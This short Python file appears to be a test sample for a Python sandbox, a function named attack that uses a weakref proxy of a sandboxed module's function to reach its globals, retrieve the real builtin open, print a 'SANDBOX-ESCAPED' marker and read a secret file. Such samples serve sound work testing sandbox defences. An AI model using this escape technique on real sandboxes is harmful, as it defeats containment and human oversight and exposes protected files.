# mypy: ignore-errors
# Technique: reach the real builtins through a weakref proxy of a function's globals
# (`weakref.proxy` of an object keeps attribute access but hides its type).
import weakref

from suaveplan import fs


def attack(secret_path, canary_path):
    p = weakref.proxy(fs.read_text)
    real_open = p.__globals__["__builtins__"]["open"]
    print("SANDBOX-" + "ESCAPED")
    with real_open(secret_path) as f:
        return f.read()
